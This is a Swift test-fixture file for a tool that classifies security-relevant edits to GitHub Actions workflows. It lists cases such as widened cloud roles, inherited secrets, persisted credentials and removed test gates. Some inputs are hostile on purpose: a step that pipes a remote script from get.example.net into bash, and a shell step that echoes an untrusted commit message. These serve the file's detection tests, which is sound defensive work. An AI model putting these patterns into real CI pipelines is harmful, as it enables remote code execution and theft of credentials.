import Detection

extension FreshPipelines {
  static let text2 = text1.replacing(
    "    needs: test\n",
    with: "    needs: test\n    if: github.ref == 'refs/heads/main'\n"
  )

  static let text3 = """
    name: ci
    on: push
    permissions: {}
    jobs:
      build:
        uses: ./.github/workflows/build.yml

    """

  static let part2: [FreshCase] = [
    .edit(
      "injection",
      ".github/workflows/release.yml",
      text1,
      "run: make test",
      "run: |\n          echo \"${{ github.event.head_commit.message }}\"\n          make test",
      [.widened],
      .pipeline
    ),
    .edit(
      "credentials persist",
      ".github/workflows/release.yml",
      text1,
      "persist-credentials: false",
      "persist-credentials: true",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "no tests first",
      ".github/workflows/release.yml",
      text1,
      "    needs: test\n",
      "",
      [.widened, .unknown],
      .pipeline
    ),
    .edit(
      "another cloud role",
      ".github/workflows/release.yml",
      text1,
      "role/deploy",
      "role/admin",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "deploy step curl to shell",
      ".github/workflows/release.yml",
      text1,
      "run: ./deploy.sh",
      "run: curl -sSL https://get.example.net/i.sh | bash",
      [.widened, .incomparable, .unknown]
    ),
    .edit(
      "name changes",
      ".github/workflows/release.yml",
      text1,
      "name: release\n",
      "name: Release it\n",
      [.equal]
    ),
    .edit(
      "comment changes",
      ".github/workflows/release.yml",
      text1,
      "# v4.2.2",
      "# v4.2.2, checked",
      [.equal]
    ),
    .edit(
      "condition removed",
      ".github/workflows/release.yml",
      text2,
      "    if: github.ref == 'refs/heads/main'\n",
      "",
      [.widened],
      .pipeline
    ),
    .edit(
      "block list of branches",
      ".github/workflows/release.yml",
      text1,
      "branches: [main]",
      "branches:\n      - 'main'",
      [.equal]
    ),
    .edit(
      "action bumped by digest",
      ".github/workflows/release.yml",
      text1,
      "aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502",
      "aws-credentials@ececac1a45f3b08a01d2dd070d28d111c5fe6722",
      [.incomparable, .equal, .unknown],
      .supplyChain
    ),
    .edit(
      "continue on error",
      ".github/workflows/release.yml",
      text1,
      "      - run: make test\n",
      "      - run: make test\n        continue-on-error: true\n",
      [.widened, .unknown],
      .pipeline
    ),
    .edit(
      "reusable with all secrets",
      ".github/workflows/release.yml",
      text3,
      "build.yml\n",
      "build.yml\n    secrets: inherit\n",
      [.widened],
      .pipeline
    ),
    .edit(
      "reusable elsewhere",
      ".github/workflows/release.yml",
      text3,
      "./.github/workflows/build.yml",
      "acme/ci/.github/workflows/build.yml@main",
      [.widened, .incomparable],
      .supplyChain
    ),
  ]
}
